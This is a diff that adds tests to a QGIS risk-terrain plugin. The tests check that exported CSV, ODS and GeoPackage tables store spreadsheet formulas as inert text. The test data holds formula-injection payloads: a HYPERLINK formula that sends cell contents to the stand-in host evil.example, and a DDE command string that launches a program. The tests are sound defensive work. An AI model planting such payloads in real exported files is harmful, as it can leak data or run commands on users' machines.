@@ -1,11 +1,14 @@
 """Rasters, styles and destinations: the right numbers, the same bytes, whole files or none."""
 
+import csv
 import json
+import zipfile
 
 import numpy as np
 import pytest
 from osgeo import gdal
-from qgis.core import QgsCoordinateReferenceSystem, QgsRasterLayer
+from qgis import processing
+from qgis.core import QgsCoordinateReferenceSystem, QgsRasterLayer, QgsVectorLayer
 
 from risk_terrain_modelling.processing_provider import files
 from risk_terrain_modelling.processing_provider.clashes import file_of
@@ -135,3 +138,56 @@ def test_the_null_models_map_has_one_class_that_says_so(grid, tmp_path, provider
 def test_classes_stay_apart_in_grey_print():
     grey = [0.299 * int(c[1:3], 16) + 0.587 * int(c[3:5], 16) + 0.114 * int(c[5:7], 16) for c in styles.COLOURS]
     assert all(lighter - darker > 25 for lighter, darker in zip(grey, grey[1:]))
+
+
+HOSTILE = '=HYPERLINK("http://evil.example?x="&A1,"look")'
+
+
+@pytest.mark.parametrize("suffix", ["csv", "CSV", "ods", "gpkg"])
+def test_text_that_a_spreadsheet_would_run_is_only_text(make_layer, tmp_path, suffix):
+    rows = [
+        ["@SUM(A1)", -5.5, "-7"],
+        ["\t=1", 0.0, "+44 20"],
+        ["-cmd|' /C calc'!A0", 1.0, "of:=1+1"],
+        ["＝1", 2.0, "a=1"],
+    ]
+    wkts = [f"Point({x} 1)" for x in range(4)]
+    fields = ["=1+1:string", "n:double", "t:string"]
+    layer = make_layer(HOSTILE, "Point", wkts, fields=fields, rows=rows)
+    output = processing.run("rtm:riskfactor", {"INPUT": layer, "OUTPUT": str(tmp_path / f"out.{suffix}")})["OUTPUT"]
+    if suffix.lower() == "csv":
+        with open(output, encoding="utf-8", newline="") as file:
+            header, *found = csv.reader(file)
+        assert header[:3] == ["'=1+1", "n", "t"]
+        assert [row[0] for row in found] == ["'@SUM(A1)", "'\t=1", "'-cmd|' /C calc'!A0", "'＝1"]
+        assert [float(row[1]) for row in found] == [-5.5, 0.0, 1.0, 2.0]
+        assert [row[2] for row in found] == ["-7", "'+44 20", "of:=1+1", "a=1"], "numbers are not touched"
+        assert {row[3] for row in found} == {"'" + HOSTILE}
+    elif suffix == "ods":
+        content = zipfile.ZipFile(output).read("content.xml").decode()
+        assert "formula" not in content and "of:=1+1" in content
+    else:
+        written = QgsVectorLayer(output)
+        assert [field.name() for field in written.fields()][1:4] == ["=1+1", "n", "t"]
+        assert [feature.attributes()[1:4] for feature in written.getFeatures()] == rows
+        assert {feature["rtm_factor"] for feature in written.getFeatures()} == {HOSTILE}
+
+
+def test_a_factor_with_a_formula_for_a_name_is_text_in_every_table_of_a_model(town, tmp_path):
+    town.bars.setName(HOSTILE)
+    given = {"STUDY_AREA": town.area, "INCIDENTS": town.incidents, "FACTORS": [town.bars, town.shops]}
+    tables = {key: str(tmp_path / f"{key}.csv") for key in ("MODEL_TABLE", "CANDIDATES", "CELLS")}
+    given.update(tables, CELL_SIZE=100, FAMILIES="poisson", RISK_TERRAIN=str(tmp_path / "risk.tif"))
+    processing.run("rtm:riskterrainmodel", given)
+    for path in tables.values():
+        with open(path, encoding="utf-8", newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert any("HYPERLINK" in cell for cell in cells), "it is there, but as text"
+        assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or (cell[:1] == "-" and not is_number(cell))]
+
+
+def is_number(text):
+    try:
+        return bool(float(text)) or True
+    except ValueError:
+        return False
